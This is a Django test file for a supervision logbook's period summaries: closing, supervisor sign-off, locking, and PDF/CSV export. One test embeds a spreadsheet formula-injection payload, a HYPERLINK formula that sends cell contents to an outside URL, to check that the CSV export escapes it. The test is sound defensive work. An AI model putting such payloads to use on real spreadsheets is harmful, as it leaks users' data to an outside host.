"""Period summaries: closing, the supervisor's signature, the lock, the PDF and the CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse
from django.utils import timezone, translation
from pypdf import PdfReader

from supervision.logbook import services
from supervision.logbook.models import LockedEntryError, PeriodSummary, PracticeEntry
from tests.supervision.logbook.helpers import (
    entry_data,
    form_post,
    make_entry,
    supervised,  # noqa: F401
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("supervised"), pytest.mark.calendar]


@pytest.fixture
def last_month():
    end = timezone.localdate().replace(day=1) - timedelta(days=1)
    return end.replace(day=1), end


@pytest.fixture
def entries(trainee, trainer, last_month):
    start, _end = last_month
    make_entry(trainee, "approved", trainer, date=start, duration_minutes=90, steps=["contrat"])
    make_entry(
        trainee,
        "approved",
        trainer,
        date=start + timedelta(days=5),
        duration_minutes=150,
        steps=["contrat", "conflits"],
        setting="institution",
    )
    make_entry(trainee, "draft", date=start + timedelta(days=6), duration_minutes=60)


@pytest.fixture
def confirmed(trainee, trainer, last_month, entries):
    period = services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    return services.period_summary_confirm(period=period, supervisor=trainer)


def url(name: str, *args) -> str:
    return reverse(f"supervision:{name}", args=args)


def test_it_closes_a_period_with_its_totals(trainee, last_month, entries):
    period = services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    assert period.status == PeriodSummary.Status.CLOSED
    assert period.totals["total_minutes"] == 240
    assert period.totals["by_step"]["contrat"] == 240
    assert period.totals["by_step"]["conflits"] == 150


def test_it_closes_a_month_from_the_form(client, trainee, last_month, entries):
    client.force_login(trainee)
    response = client.post(url("logbook_period_close"), {"month": last_month[0].strftime("%Y-%m")})
    period = PeriodSummary.objects.get()
    assert response["Location"] == url("logbook_period_detail", period.pk)
    assert (period.start, period.end) == last_month


def test_it_refuses_to_close_a_period_with_entries_awaiting_review(trainee, last_month):
    make_entry(trainee, "submitted", date=last_month[0])
    with pytest.raises(ValidationError):
        services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    assert not PeriodSummary.objects.exists()


@pytest.mark.parametrize(
    ("waiting", "said"),
    [
        (1, "1 entry in this period is still awaiting review"),
        (2, "2 entries in this period are still awaiting review"),
    ],
)
def test_the_refusal_counts_the_entries_awaiting_review_in_english_words(
    client, trainee, last_month, waiting, said
):
    """The close form says « 1 entry … is », « 2 entries … are », not « entry(ies) »."""
    for day in range(waiting):
        make_entry(trainee, "submitted", date=last_month[0] + timedelta(days=day))
    client.force_login(trainee)
    with translation.override("en"):
        response = client.post(
            url("logbook_period_close"), {"month": last_month[0].strftime("%Y-%m")}
        )
    html = response.content.decode()
    assert said in html
    assert "(ies)" not in html


def test_it_refuses_overlapping_periods(trainee, last_month, entries):
    services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    with pytest.raises(ValidationError):
        services.period_summary_close(
            trainee=trainee, start=last_month[1], end=last_month[1] + timedelta(days=1)
        )


def test_it_has_the_supervisor_sign_the_period(trainer, confirmed):
    assert confirmed.status == PeriodSummary.Status.CONFIRMED
    assert confirmed.confirmed_by == trainer
    assert confirmed.confirmed_at is not None


def test_it_refuses_confirmation_by_another_supervisor_or_the_trainee(
    trainee, other_trainer, last_month, entries
):
    period = services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    for person in (other_trainer, trainee):
        with pytest.raises(PermissionDenied):
            services.period_summary_confirm(period=period, supervisor=person)
    assert PeriodSummary.objects.get().status == "closed"


def test_it_refuses_to_change_a_confirmed_summary(confirmed):
    confirmed.totals = {"total_minutes": 9999}
    with pytest.raises(LockedEntryError):
        confirmed.save()
    with pytest.raises(LockedEntryError):
        confirmed.delete()


def test_it_refuses_a_new_entry_in_a_confirmed_period(trainee, confirmed, last_month):
    with pytest.raises(services.PeriodLockedError):
        services.practice_entry_create(trainee=trainee, **entry_data(date=last_month[0]))
    assert PracticeEntry.objects.count() == 3


def test_it_refuses_to_submit_or_edit_a_draft_in_a_confirmed_period(trainee, confirmed):
    draft = PracticeEntry.objects.get(status="draft")
    with pytest.raises(services.PeriodLockedError):
        services.practice_entry_submit(entry=draft, actor=trainee)
    with pytest.raises(services.PeriodLockedError):
        services.practice_entry_update(entry=draft, actor=trainee, **entry_data(date=draft.date))
    assert PracticeEntry.objects.get(pk=draft.pk).status == "draft"


def test_it_refuses_to_move_a_draft_into_a_confirmed_period(trainee, confirmed, last_month):
    draft = make_entry(trainee)
    with pytest.raises(services.PeriodLockedError):
        services.practice_entry_update(entry=draft, actor=trainee, **entry_data(date=last_month[0]))


def test_it_refuses_to_correct_an_entry_of_a_confirmed_period(trainee, confirmed):
    approved = PracticeEntry.objects.filter(status="approved").first()
    with pytest.raises(services.PeriodLockedError):
        services.practice_entry_correct(entry=approved, actor=trainee, **entry_data())
    assert not PracticeEntry.objects.filter(corrects=approved).exists()


def test_it_refuses_a_correction_dated_into_a_confirmed_period(
    trainee, trainer, confirmed, last_month
):
    recent = make_entry(trainee, "approved", trainer)
    with pytest.raises(services.PeriodLockedError):
        services.practice_entry_correct(
            entry=recent, actor=trainee, **entry_data(date=last_month[1])
        )


def test_it_refuses_a_new_entry_in_a_confirmed_period_from_the_form(
    client, trainee, confirmed, last_month
):
    client.force_login(trainee)

    response = client.post(url("logbook_entry_create"), form_post(date=last_month[0].isoformat()))
    assert response.status_code == 200
    assert "confirmée" in " ".join(response.context["form"].non_field_errors())
    assert PracticeEntry.objects.count() == 3


def test_it_renders_the_pdf_with_the_totals_and_the_signature(client, trainee, trainer, confirmed):
    client.force_login(trainee)
    response = client.get(url("logbook_period_pdf", confirmed.pk))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    text = " ".join(text.split())
    assert "Camille Martin" in text
    assert "4 h (240 min)" in text
    assert "Faire un contrat commun 4 h" in text
    assert "Créer des espaces de conflits constructifs 2 h 30" in text
    assert f"signé par {trainer.full_name}" in text


def test_the_english_pdf_puts_no_space_before_a_colon(client, trainee, confirmed):
    client.force_login(trainee)
    response = client.get("/en" + url("logbook_period_pdf", confirmed.pk))
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    text = " ".join(text.split())
    assert "Trainee: Camille Martin" in text
    assert "Total approved hours: 4 h" in text
    assert " :" not in text


def test_it_exports_the_period_as_csv(client, trainer, trainee, confirmed):
    client.force_login(trainer)
    response = client.get(url("logbook_period_csv", confirmed.pk))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Date", "Durée (minutes)", "Cadre"]
    body = rows[1:3]
    assert [row[1] for row in body] == ["90", "150"]
    assert body[1][5] == "Faire un contrat commun | Créer des espaces de conflits constructifs"
    assert ["Total (minutes)", "240"] in rows
    assert rows[-1][:2] == ["Statut", "confirmée"]
    assert trainer.full_name in rows[-1][2]


def test_the_period_s_files_are_named_in_the_page_s_language(client, trainee, confirmed):
    client.force_login(trainee)
    dates = f"{confirmed.start:%Y%m%d}-{confirmed.end:%Y%m%d}"

    addresses = {"pdf": url("logbook_period_pdf", confirmed.pk)}
    addresses["csv"] = url("logbook_period_csv", confirmed.pk)

    for extension, address in addresses.items():
        french = client.get(address)["Content-Disposition"]
        english = client.get(f"/en{address}")["Content-Disposition"]

        assert f'filename="carnet-de-pratique-{dates}.{extension}"' in french
        assert f'filename="practice-logbook-{dates}.{extension}"' in english


def test_it_exports_text_that_looks_like_a_formula_as_text(client, trainee, trainer, last_month):
    start, end = last_month
    formula = '=HYPERLINK("http://example.org/?"&A1;"Voir")'
    make_entry(trainee, "approved", trainer, date=start, description=formula)
    make_entry(trainee, "approved", trainer, date=start, description="@SUM(1+1) en réunion")
    period = services.period_summary_close(trainee=trainee, start=start, end=end)
    client.force_login(trainee)

    response = client.get(url("logbook_period_csv", period.pk))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    descriptions = {row[6] for row in rows[1:3]}
    assert descriptions == {"'" + formula, "'@SUM(1+1) en réunion"}


def test_it_answers_404_on_a_period_to_other_people(
    client, other_trainee, other_trainer, confirmed
):
    for person in (other_trainee, other_trainer):
        client.force_login(person)
        for name in ("logbook_period_detail", "logbook_period_pdf", "logbook_period_csv"):
            assert client.get(url(name, confirmed.pk)).status_code == 404


def test_it_lets_the_committee_read_a_period_but_not_confirm_it(
    client, committee_member, trainee, last_month, entries
):
    period = services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    client.force_login(committee_member)
    assert client.get(url("logbook_period_detail", period.pk)).status_code == 200
    assert client.get(url("logbook_period_csv", period.pk)).status_code == 200
    assert client.post(url("logbook_period_confirm", period.pk)).status_code == 404
    assert PeriodSummary.objects.get().status == "closed"


def test_it_confirms_from_the_supervisors_page(client, trainer, trainee, last_month, entries):
    period = services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    client.force_login(trainer)
    assert period in client.get(url("logbook_queue")).context["periods"]
    response = client.post(url("logbook_period_confirm", period.pk))
    assert response.status_code == 302
    assert PeriodSummary.objects.get().confirmed_by == trainer


def test_it_refuses_bulk_changes_to_a_confirmed_summary(confirmed):
    with pytest.raises(LockedEntryError):
        PeriodSummary.objects.filter(pk=confirmed.pk).update(end=confirmed.start)
    with pytest.raises(LockedEntryError):
        PeriodSummary.objects.all().delete()


def test_it_warns_before_confirmation_about_drafts_left_in_the_period(
    client, trainer, trainee, last_month, entries
):
    period = services.period_summary_close(trainee=trainee, start=last_month[0], end=last_month[1])
    client.force_login(trainer)
    response = client.get(url("logbook_period_detail", period.pk))
    assert response.context["unsent"] == 1
    assert "1 brouillon ou entrée renvoyée" in response.content.decode()


@pytest.mark.parametrize("language", ["fr", "en"])
def test_the_pdf_says_the_language_it_is_written_in(client, trainee, confirmed, language):
    from django.utils import translation

    client.force_login(trainee)
    with translation.override(language):
        address = url("logbook_period_pdf", confirmed.pk)
    response = client.get(address)
    assert PdfReader(io.BytesIO(response.content)).trailer["/Root"]["/Lang"] == language
